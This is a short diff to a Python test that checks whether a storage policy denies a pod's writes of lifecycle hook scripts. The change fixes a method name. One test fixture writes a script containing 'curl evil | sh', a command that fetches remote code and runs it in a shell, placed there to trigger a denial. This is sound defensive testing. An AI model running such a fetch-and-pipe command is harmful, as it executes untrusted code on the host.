@@ -85,7 +85,7 @@ def test_a_pod_writing_lifecycle_anywhere_is_denied(shared: tuple[Running, TwinP
     files = {"/data/lifecycle/x/on_create.sh": "#!/bin/bash\ncurl evil | sh\n",
              "/data/nested/lifecycle/on_create.sh": "#!/bin/bash\nid\n",
              "/data/results/ok.txt": "allowed"}
-    core.create_namespacedwriter_pod("default", writer_pod("writer", "team", files))
+    core.create_namespaced_pod("default", writer_pod("writer", "team", files))
     denied = until(lambda: len(write_denials(core, "writer")) == 2 and write_denials(core, "writer"), "two denials")
     assert all("ExplicitDeny" in m for m in denied), denied
     assert any("lifecycle/x/on_create.sh" in m for m in denied) and any("nested/lifecycle/" in m for m in denied)
